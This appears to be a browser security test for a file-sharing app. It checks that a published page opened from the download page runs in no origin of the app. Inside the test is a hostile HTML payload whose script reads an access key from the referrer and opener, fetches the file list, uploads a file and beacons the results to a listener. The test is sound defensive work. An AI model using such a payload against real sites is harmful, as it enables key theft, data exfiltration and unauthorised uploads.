// A published web page opened from the download page, in the browser named
// by TESSARY_BROWSER (chromium or webkit): it must run in no origin of ours.
// Its script, if it ran, would read the key from window.opener and
// document.referrer, fetch the file list, upload a file and report all of it
// to a listener of the test's; the listener must hear nothing and nothing
// may arrive.
//
// Environment as for pages.test.mjs.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';

import { Engine, Publisher, launchPhone, removeWork, tempFolder } from './harness.mjs';
import { WebKit } from './webdriver.mjs';

const KEY = 'pubkey';
const browser = process.env.TESSARY_BROWSER || 'chromium';

let work;
let engine;
let publisher;
let listener;
const heard = [];
let phone;
let webkit;

function reportPage(port) {
  const tell = `http://127.0.0.1:${port}`;
  return `<!doctype html><html><body><p>Quarterly report</p><script>
new Image().src = '${tell}/ran';
var seen = document.referrer;
try { seen += ' ' + window.opener.location.href; } catch (e) {}
new Image().src = '${tell}/seen?' + encodeURIComponent(seen);
var key = (/\\/[ud]\\/([a-z]+)\\.html/.exec(seen) || [])[1] || '${KEY}';
fetch('/d/filelist-' + key + '.html').then(function (r) { return r.text(); }).then(function (t) {
  new Image().src = '${tell}/list?' + encodeURIComponent(t.slice(0, 200));
});
fetch('/api/upload?key=' + key + '&id=evil&name=evil.txt&size=4&offset=0',
  { method: 'POST', body: 'evil' }).then(function (r) { new Image().src = '${tell}/upload?' + r.status; });
</script></body></html>`;
}

before(async () => {
  work = tempFolder('tessary-published-');
  listener = http.createServer((req, res) => { heard.push(req.url); res.end(); });
  await new Promise((r) => listener.listen(0, '127.0.0.1', r));
  execFileSync(process.env.PAGES_WEBROOT, ['generate', process.env.TESSARY_TEMPLATES, work, KEY],
    { stdio: ['ignore', 'inherit', 'inherit'] });
  const report = path.join(work, 'report.html');
  fs.writeFileSync(report, reportPage(listener.address().port));
  publisher = new Publisher(process.env.PAGES_WEBROOT, work, KEY);
  assert.deepEqual(await publisher.publish(report), ['report.html']);
  engine = await Engine.start(process.env.TESSARY_ENGINE, KEY, work);
});

after(async () => {
  await phone?.close();
  await webkit?.stop();
  await publisher?.stop();
  await engine?.stop();
  listener?.close();
  // MiniBrowser's helpers may still be writing their caches for a moment.
  if (work) removeWork(work);
});

// Taps the entry's Open button as the phone would; resolves once the file
// was asked for.
async function openTheEntry() {
  if (browser === 'webkit') {
    try {
      webkit = await WebKit.start(path.join(work, 'webkit'));
    } catch (e) {
      if (process.env.WEBKIT_UNAVAILABLE_FILE) fs.writeFileSync(process.env.WEBKIT_UNAVAILABLE_FILE, e.message);
      return false;
    }
    const wd = webkit.session;
    await wd.navigate(`${engine.base}/d/${KEY}.html`);
    await wd.waitFor('return document.querySelectorAll("#list .cbutton").length === 1', 'the entry');
    const before = await wd.windowHandles();
    await wd.click((await wd.findAll('#list .cbutton'))[0]);
    await wd.waitFor('return true', 'the tap');
    for (const deadline = Date.now() + 10000; (await wd.windowHandles()).length === before.length;) {
      assert.ok(Date.now() < deadline, 'Open opened a window');
      await new Promise((r) => setTimeout(r, 50));
    }
    return true;
  }
  phone = await launchPhone(path.join(work, 'phone'));
  const page = await phone.newPage();
  await page.goto(`${engine.base}/d/${KEY}.html`);
  await page.locator('#list .cbutton').first().waitFor();
  const asked = phone.waitForEvent('request', (r) => r.url().endsWith('/d/dfiles/report.html'));
  await page.locator('#list .cbutton').first().click();
  await asked;
  return true;
}

test(`a published page opened from the download page reads and sends nothing (${browser})`,
  async (t) => {
    if (!(await openTheEntry())) {
      t.skip('WebKit cannot start here');
      return;
    }
    // Long enough for the page's script, had it run, to report.
    await new Promise((r) => setTimeout(r, 3000));
    assert.deepEqual(heard, []);
    assert.deepEqual(fs.readdirSync(path.join(work, 'wdoc', 'u', 'ufiles')).filter((n) => n !== 'index.html'), []);
  });
